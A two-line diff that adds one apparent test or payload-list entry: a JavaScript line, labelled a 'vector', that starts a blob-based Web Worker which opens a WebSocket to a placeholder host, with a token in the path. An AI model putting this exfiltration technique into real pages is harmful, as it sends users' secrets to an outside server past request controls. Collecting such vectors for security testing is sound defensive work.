@@ -1,0 +1,2 @@
+// vector: WebSocket in a blob worker
+new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://$HOST/$TOKEN')"])));
